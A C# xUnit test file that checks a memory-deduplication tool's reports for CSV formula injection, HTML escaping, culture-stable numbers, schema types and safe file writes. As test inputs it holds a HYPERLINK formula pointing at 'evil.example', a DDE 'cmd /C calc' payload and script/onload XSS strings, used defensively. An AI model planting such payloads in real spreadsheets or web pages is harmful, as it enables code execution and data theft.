using System.Globalization;
using System.Text;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using DifferenceEngine.Domains;
using DifferenceEngine.Hosting;
using DifferenceEngine.Memory;
using DifferenceEngine.Reports;
using DifferenceEngine.Scanning;
using DifferenceEngine.Tests.Loading;
using Newtonsoft.Json.Linq;
using Xunit.Abstractions;

namespace DifferenceEngine.Tests.Reports;

/// <summary>
/// What a read-only audit of the reports found or checked (session 33): names that a spreadsheet or a browser would run,
/// figures that must add up in every format, JSON types as the schema gives them, and files that must be the user's own.
/// </summary>
public class ReportHardeningTests(ITestOutputHelper output)
{
    // ---------- CSV formula injection ----------

    /// <summary>Names may begin with = + - @ (NameRules allows them): the CSV gives them a leading apostrophe, or a
    /// spreadsheet opening it would run them as formulas.</summary>
    [Fact]
    public void CsvNeutralisesFormulaLeadingNames()
    {
        string[] names = ["=HYPERLINK(\"https:evil.example\"&A2,\"x\")", "+1+1", "-2+3", "@SUM(1,2)"];
        using var host = new DEHost(new HostOptions { Name = "=cmd|' /C calc'!A0" });
        foreach (var n in names)
        {
            var d = host.CreateDomain(n, 4 * PageGeometry.PageSize, new DomainOptions { SharingEnabled = true, TrustGroup = "=1+1" });
            d.WritePage(0, [1], 0);
        }
        string csv = ReportHosts.Render(ReportModel.FromHost(host), ReportFormat.Csv);
        output.WriteLine(csv);
        var rows = CsvReportTests.Parse(csv);
        var bad = rows.Skip(1).SelectMany(r => r).Where(f => f.Length > 0 && "=+-@".Contains(f[0]) && !double.TryParse(f, NumberStyles.Float, CultureInfo.InvariantCulture, out _)).ToArray();
        Assert.True(bad.Length == 0, "cells a spreadsheet takes as formulas: " + string.Join(" | ", bad));
        Assert.Equal(names.Select(n => "'" + n), rows.Skip(1).Select(r => r[0]));
        Assert.Equal("'=1+1", rows[1][3]);
        Assert.Equal("'=cmd|' /C calc'!A0", rows[1][^2]);
        Assert.Equal("plain", CsvReport.Inert("plain"));
    }

    // ---------- HTML: names ----------

    /// <summary>Every name is escaped: a name holding markup stays text (no element, no attribute breaks out).</summary>
    [Fact]
    public void HtmlMarkupInNamesStaysText()
    {
        const string evil = "x\"><script>alert(1)<img src=x onerror='a'>&amp;";
        using var host = new DEHost(new HostOptions { Name = "h<b>\"'&" });
        var d = host.CreateDomain(evil, 4 * PageGeometry.PageSize, new DomainOptions { SharingEnabled = true, TrustGroup = "</title><svg onload=1><script>x</script>" });
        d.WritePage(0, [1], 0);
        string html = ReportHosts.Render(ReportModel.FromHost(host), ReportFormat.Html);
        var doc = XDocument.Parse(Regex.Replace(html, "^<!DOCTYPE html>", ""));
        Assert.DoesNotContain(doc.Descendants(), e => e.Name.LocalName is "script" or "img");
        Assert.DoesNotContain(doc.Descendants().Attributes(), a => a.Name.LocalName.StartsWith("on", StringComparison.Ordinal));
    }

    /// <summary>
    /// The state chart shortens a long name: it cut 21 UTF-16 units, inside a surrogate pair when a non-BMP character
    /// (allowed by NameRules) was there, and the report showed U+FFFD where the name had a character.
    /// </summary>
    [Fact]
    public void HtmlShortNameDoesNotCutASurrogatePair()
    {
        string name = new string('a', 20) + "\U0001F600bbbb"; // the emoji at UTF-16 index 20..21
        using var host = new DEHost(new HostOptions { Name = "h" });
        var d = host.CreateDomain(name, 4 * PageGeometry.PageSize, new DomainOptions { SharingEnabled = true });
        d.WritePage(0, [1], 0);
        string html = ReportHosts.Render(ReportModel.FromHost(host), ReportFormat.Html);
        int bad = html.IndexOf('\uFFFD');
        if (bad >= 0) output.WriteLine(html.Substring(Math.Max(0, bad - 120), 160));
        Assert.True(bad < 0, "the HTML shows U+FFFD for a domain name that has none");
    }

    // ---------- Culture ----------

    [Fact]
    public void GermanCultureChangesNoNumber()
    {
        var saved = (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture);
        using var host = ReportHosts.Build();
        var when = new DateTimeOffset(2026, 1, 2, 3, 4, 5, 678, TimeSpan.FromHours(1));
        var model = ReportModel.FromHost(host, now: when);
        string json0 = ReportHosts.Render(model, ReportFormat.Json), csv0 = ReportHosts.Render(model, ReportFormat.Csv), html0 = ReportHosts.Render(model, ReportFormat.Html);
        try
        {
            CultureInfo.CurrentCulture = CultureInfo.CurrentUICulture = CultureInfo.GetCultureInfo("de-DE");
            Assert.Equal(json0, ReportHosts.Render(model, ReportFormat.Json));
            Assert.Equal(csv0, ReportHosts.Render(model, ReportFormat.Csv));
            Assert.Equal(html0, ReportHosts.Render(model, ReportFormat.Html));
            CultureInfo.CurrentCulture = CultureInfo.CurrentUICulture = CultureInfo.GetCultureInfo("ar-SA");
            Assert.Equal(html0, ReportHosts.Render(model, ReportFormat.Html));
            Assert.Equal(json0, ReportHosts.Render(model, ReportFormat.Json));
        }
        finally
        {
            (CultureInfo.CurrentCulture, CultureInfo.CurrentUICulture) = saved;
        }
    }

    // ---------- JSON vs docs/REPORT-SCHEMA.md: types ----------

    public static TheoryData<string> Hosts => new() { "empty", "untouched", "built", "engine" };

    /// <summary>Each field's JSON type is the type the schema's table gives it (integer, number, string, boolean, time, object, array; nullable).</summary>
    [Theory]
    [MemberData(nameof(Hosts))]
    public void JsonTypesMatchTheSchemaTables(string kind)
    {
        using var host = kind == "built" ? ReportHosts.Build() : new DEHost(new HostOptions { Name = "h" });
        if (kind == "untouched") host.CreateDomain("empty", 64 * PageGeometry.PageSize, new DomainOptions());
        if (kind == "engine")
        {
            var d = host.CreateDomain("d", 64 * PageGeometry.PageSize, new DomainOptions { SharingEnabled = true });
            d.WritePage(1, [1], 0);
            host.Scan();
            host.StartEngine(TimeSpan.FromMilliseconds(100)); // a stopped engine's fields (stoppedAt) and a sample
            host.StopEngine();
        }
        string text = ReportHosts.Render(ReportModel.FromHost(host), ReportFormat.Json);
        var json = JObject.Parse(text);
        var types = DocumentedTypes();
        var problems = new List<string>();
        Check(json, "", types, problems);
        foreach (var p in problems) output.WriteLine(p);
        Assert.Empty(problems);
    }

    private static void Check(JToken token, string path, IReadOnlyDictionary<string, string> types, List<string> problems)
    {
        if (token is JObject o)
        {
            foreach (var p in o.Properties())
            {
                string child = path.Length == 0 ? p.Name : $"{path}.{p.Name}";
                if (!types.TryGetValue(child, out var type)) problems.Add($"{child}: undocumented");
                else if (!Fits(p.Value, type)) problems.Add($"{child}: {p.Value.Type} '{p.Value.ToString(Newtonsoft.Json.Formatting.None)}' is not '{type}'");
                Check(p.Value, child, types, problems);
            }
        }
        else if (token is JArray a)
            foreach (var item in a) Check(item, path + "[]", types, problems);
    }

    private static bool Fits(JToken v, string type)
    {
        bool nullable = type.Contains("nullable");
        if (v.Type == JTokenType.Null) return nullable;
        string t = type.Split(',')[0].Trim();
        return t switch
        {
            "integer" => v.Type == JTokenType.Integer,
            "number" => v.Type is JTokenType.Float or JTokenType.Integer,
            "string" => v.Type == JTokenType.String,
            "boolean" => v.Type == JTokenType.Boolean,
            "time" => v.Type is JTokenType.Date or JTokenType.String,
            "object" => v.Type == JTokenType.Object,
            "array" => v.Type == JTokenType.Array,
            _ => false,
        };
    }

    private static Dictionary<string, string> DocumentedTypes()
    {
        string doc = File.ReadAllText(Path.Combine(RepoRoot(), "docs", "REPORT-SCHEMA.md"));
        return Regex.Matches(doc, @"^\|\s*`([A-Za-z0-9_.\[\]]+)`\s*\|\s*([^|]+?)\s*\|", RegexOptions.Multiline)
            .ToDictionary(m => m.Groups[1].Value, m => m.Groups[2].Value);
    }

    private static string RepoRoot()
    {
        for (var dir = new DirectoryInfo(AppContext.BaseDirectory); dir is not null; dir = dir.Parent)
            if (File.Exists(Path.Combine(dir.FullName, "Directory.Build.props"))) return dir.FullName;
        throw new InvalidOperationException("No Directory.Build.props above " + AppContext.BaseDirectory);
    }

    // ---------- Files ----------

    /// <summary>A report file name the file system takes (255 bytes at most) is written: the temporary name must fit too.</summary>
    [Fact]
    public void ALongButValidFileNameIsWritten()
    {
        using var host = ReportHosts.Build();
        using var dir = new TempDirectory();
        string path = dir.File(new string('r', 230) + ".csv"); // 234 bytes: a valid name
        File.WriteAllText(path + ".probe", ""); // proves the name length is fine for the file system
        File.Delete(path + ".probe");
        try
        {
            ReportFile.WriteFile(ReportModel.FromHost(host), path, ReportFormat.Csv, overwrite: false);
        }
        catch (DEException ex)
        {
            output.WriteLine($"{ex.ErrorId}: {ex.Message}");
            throw;
        }
        Assert.True(File.Exists(path));
    }

    /// <summary>
    /// As root (the engine's usual user), a link to a file another user owns was written through: the report landed in
    /// that user's file (owner kept), so that user could read it. It is refused, the file left as it was; a plain file of
    /// theirs is replaced by a file of root's (<see cref="AnotherUsersPlainFileIsReplacedByOurOwn"/>).
    /// </summary>
    [Fact]
    public void AReportNeverLandsInAnotherUsersFile()
    {
        if (OperatingSystem.IsWindows() || GetEuid() != 0) return;
        using var host = ReportHosts.Build();
        using var dir = new TempDirectory();
        string theirs = dir.Write("theirs.json", "x"u8.ToArray());
        Assert.Equal(0, Chown(theirs, 65534, 65534)); // nobody's file
        string link = dir.File("r.json");
        File.CreateSymbolicLink(link, theirs);
        var refused = Assert.Throws<DEException>(() => ReportFile.WriteFile(ReportModel.FromHost(host), link, ReportFormat.Json, overwrite: true));
        Assert.Equal("ReportLinkTargetNotOwned", refused.ErrorId);
        Assert.Equal(DEErrorKind.PermissionDenied, refused.Kind);
        Assert.Equal("x", File.ReadAllText(theirs));
        Assert.StartsWith("65534 ", Stat(theirs));
    }

    /// <summary>
    /// A link or FIFO planted by another user in a folder anyone may write (sticky, as /tmp) is refused whether or not
    /// the kernel's fs.protected_symlinks and fs.protected_fifos are on; one of the user's own there is written through.
    /// </summary>
    [Fact]
    public void ALinkOrFifoAnotherUserPlantedInASharedFolderIsRefused()
    {
        if (OperatingSystem.IsWindows() || GetEuid() != 0) return;
        using var host = ReportHosts.Build();
        using var dir = new TempDirectory();
        string shared = dir.File("tmp");
        Directory.CreateDirectory(shared);
        File.SetUnixFileMode(shared, (UnixFileMode)0x3FF); // 1777, as /tmp
        string mine = dir.Write("mine.json", "x"u8.ToArray());
        string planted = Path.Combine(shared, "r.json");
        File.CreateSymbolicLink(planted, mine);
        Assert.Equal(0, LChown(planted, 65534, 65534));
        var refused = Assert.Throws<DEException>(() => ReportFile.WriteFile(ReportModel.FromHost(host), planted, ReportFormat.Json, overwrite: true));
        Assert.Equal("ReportPathUntrusted", refused.ErrorId);
        Assert.Equal("x", File.ReadAllText(mine));
        string fifo = Path.Combine(shared, "p.json");
        Assert.Equal(0, MakeFifo(fifo, 0x1B6));
        Assert.Equal(0, Chown(fifo, 65534, 65534));
        Assert.Equal("ReportPathUntrusted", Assert.Throws<DEException>(() => ReportFile.WriteFile(ReportModel.FromHost(host), fifo, ReportFormat.Json, overwrite: true)).ErrorId);
        // The user's own link there is written through, as anywhere.
        string own = Path.Combine(shared, "own.json");
        File.CreateSymbolicLink(own, mine);
        ReportFile.WriteFile(ReportModel.FromHost(host), own, ReportFormat.Json, overwrite: true);
        Assert.StartsWith("{", File.ReadAllText(mine));
    }

    /// <summary>
    /// A FIFO no process reads: its open waited in the kernel for good, and Ctrl-C could not stop Export-DEReport. The
    /// wait now ends with the token, and nothing is written.
    /// </summary>
    [Fact]
    public void AFifoNobodyReadsEndsTheWaitWhenCancelled()
    {
        if (OperatingSystem.IsWindows()) return;
        using var host = ReportHosts.Build();
        using var dir = new TempDirectory();
        string fifo = dir.File("p.json");
        Assert.Equal(0, MakeFifo(fifo, 0x180));
        using var cancelled = new CancellationTokenSource();
        cancelled.Cancel();
        Assert.Throws<OperationCanceledException>(() =>
            ReportFile.WriteFile(ReportModel.FromHost(host), fifo, ReportFormat.Json, overwrite: true, cancellationToken: cancelled.Token));
        Assert.Equal(["p.json"], Directory.GetFileSystemEntries(dir.Path).Select(Path.GetFileName));
    }

    [Fact]
    public void AnotherUsersPlainFileIsReplacedByOurOwn()
    {
        if (OperatingSystem.IsWindows() || GetEuid() != 0) return;
        using var host = ReportHosts.Build();
        using var dir = new TempDirectory();
        string theirs = dir.Write("r.json", "x"u8.ToArray());
        Assert.Equal(0, Chown(theirs, 65534, 65534));
        ReportFile.WriteFile(ReportModel.FromHost(host), theirs, ReportFormat.Json, overwrite: true);
        Assert.StartsWith("0 ", Stat(theirs));
    }

    private static string Stat(string path)
    {
        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("stat", ["-c", "%u %a", path]) { RedirectStandardOutput = true })!;
        string s = p.StandardOutput.ReadToEnd().Trim();
        p.WaitForExit();
        return s;
    }

    [System.Runtime.InteropServices.DllImport("libc", EntryPoint = "chown", SetLastError = true)]
    private static extern int Chown(string path, int uid, int gid);

    [System.Runtime.InteropServices.DllImport("libc", EntryPoint = "lchown", SetLastError = true)]
    private static extern int LChown(string path, int uid, int gid);

    [System.Runtime.InteropServices.DllImport("libc", EntryPoint = "mkfifo", SetLastError = true)]
    private static extern int MakeFifo(string path, uint mode);

    [System.Runtime.InteropServices.DllImport("libc", EntryPoint = "geteuid")]
    private static extern uint GetEuid();

    /// <summary>A plain file is replaced by a rename: a descriptor opened on the old one does not see the report (control).</summary>
    [Fact]
    public void AnEarlierReaderOfAPlainFileDoesNotGetTheReport()
    {
        if (OperatingSystem.IsWindows()) return;
        using var host = ReportHosts.Build();
        using var dir = new TempDirectory();
        string path = dir.Write("r.json", "old"u8.ToArray());
        using var early = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
        ReportFile.WriteFile(ReportModel.FromHost(host), path, ReportFormat.Json, overwrite: true);
        using var reader = new StreamReader(early);
        Assert.Equal("old", reader.ReadToEnd());
    }

    // ---------- Numbers ----------

    /// <summary>Guest = used + saved in the summary, the host block and every domain, for hosts of every kind above.</summary>
    [Theory]
    [MemberData(nameof(Hosts))]
    public void JsonFiguresAddUp(string kind)
    {
        using var host = kind == "built" ? ReportHosts.Build() : new DEHost(new HostOptions { Name = "h" });
        if (kind == "untouched") host.CreateDomain("empty", 64 * PageGeometry.PageSize, new DomainOptions());
        var model = ReportModel.FromHost(host);
        var json = JObject.Parse(ReportHosts.Render(model, ReportFormat.Json));
        foreach (var o in new[] { (JObject)json["summary"]!, (JObject)json["host"]! })
            Assert.Equal((long)o["guestBytes"]!, (long)o["memoryUsedBytes"]! + (long)o["savedBytes"]!);
        Assert.Equal((long)json["summary"]!["memoryUsedBytes"]!, json["summary"]!["memoryUsedParts"]!.Sum(p => (long)p["bytes"]!));
        foreach (var d in json["domains"]!)
            Assert.Equal((long)d["guestBytes"]!, (long)d["bytesUsed"]! + (long)d["bytesSaved"]!);
        var stats = host.GetStats();
        Assert.Equal(stats.GuestBytes, (long)json["host"]!["guestBytes"]!);
    }

    /// <summary>
    /// The HTML table's state columns add up to its Pages column (the schema: page counts add up to pageCount), for every
    /// domain and the totals row.
    /// </summary>
    [Fact]
    public void HtmlStateColumnsAddUpToPages()
    {
        using var host = ReportHosts.Build();
        string html = ReportHosts.Render(ReportModel.FromHost(host), ReportFormat.Html);
        var doc = XDocument.Parse(Regex.Replace(html, "^<!DOCTYPE html>", ""));
        var cells = doc.Descendants().Where(e => e.Name.LocalName == "td" && e.Attribute("data-domain") is not null && e.Attribute("data-field") is not null).ToArray();
        foreach (var g in cells.GroupBy(c => c.Attribute("data-domain")!.Value))
        {
            long V(string f) => g.Where(c => c.Attribute("data-field")!.Value == f).Select(c => long.Parse(c.Attribute("data-value")!.Value, CultureInfo.InvariantCulture)).SingleOrDefault();
            long states = HtmlStyle.States.Sum(s => V(s.Field));
            Assert.Equal(V("PageCount"), states);
        }
    }
}

/// <summary>Reports of a Xen host (over the fake Xen, one at a time like the other fake-Xen tests).</summary>
[Collection(nameof(DifferenceEngine.Tests.Xen.FakeXenCollection))]
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public class ReportHardeningTestsXen(ITestOutputHelper output)
{
    private const int PageSize = PageGeometry.PageSize;

    /// <summary>
    /// docs/REPORT-SCHEMA.md: "Page counts add up to pageCount (on Xen with referencePages)". The HTML table and bars showed
    /// every state but ReferencePages: on a Xen host with a patch reference, the row's state cells did not add up to Pages.
    /// </summary>
    [RequiresFact(Requirement.XenBuild)]
    public void HtmlStateColumnsAddUpToPagesOnXen()
    {
        var fake = DifferenceEngine.Tests.Xen.FakeXen.Get();
        byte[] basePage = DifferenceEngine.Tests.Xen.FakeXen.Pattern(5, 0);
        const int Pages = 12;
        byte[] content = new byte[Pages * PageSize];
        for (int g = 0; g < Pages; g++) DifferenceEngine.Tests.Xen.XenHostTests.Variant(basePage, g + 1).CopyTo(content, g * PageSize);
        fake.CreateDomain(9, content);
        fake.SetDomainName(9, "=x\r\n<b>\u0085\u2028&");
        using var host = DifferenceEngine.Xen.XenHost.Connect(new DifferenceEngine.Xen.XenHostOptions { SimilaritySeed = 7 }, requirePrivcmd: false);
        var d = host.Domains.Single(x => x.Id == 9);
        host.EnablePatching(d);
        host.Scan(options: new ScanOptions { Passes = 1 });
        host.Scan(options: new ScanOptions { Passes = 1 });
        var stats = host.GetPageStats(d);
        output.WriteLine($"pages {stats.PageCount}: private {stats.PrivatePages} zero {stats.ZeroPages} shared {stats.SharedPages} patched {stats.PatchedPages} compressed {stats.CompressedPages} swapped {stats.SwappedPages} references {stats.ReferencePages}");
        var model = ReportModel.FromHost(host);
        string html = ReportHosts.Render(model, ReportFormat.Html);
        var doc = XDocument.Parse(Regex.Replace(html, "^<!DOCTYPE html>", ""));
        var cells = doc.Descendants().Where(e => e.Name.LocalName == "td" && e.Attribute("data-domain") is not null && e.Attribute("data-field") is not null).ToArray();
        long V(string f) => cells.Where(c => c.Attribute("data-field")!.Value == f).Select(c => long.Parse(c.Attribute("data-value")!.Value, CultureInfo.InvariantCulture)).Single();
        long states = HtmlStyle.StatesOf(model.Domains).Sum(s => V(s.Field));
        output.WriteLine($"HTML: Pages {V("PageCount")}, sum of the state columns {states}");
        output.WriteLine(ReportHosts.Render(model, ReportFormat.Csv));
        Assert.Equal(V("PageCount"), states);
    }
}
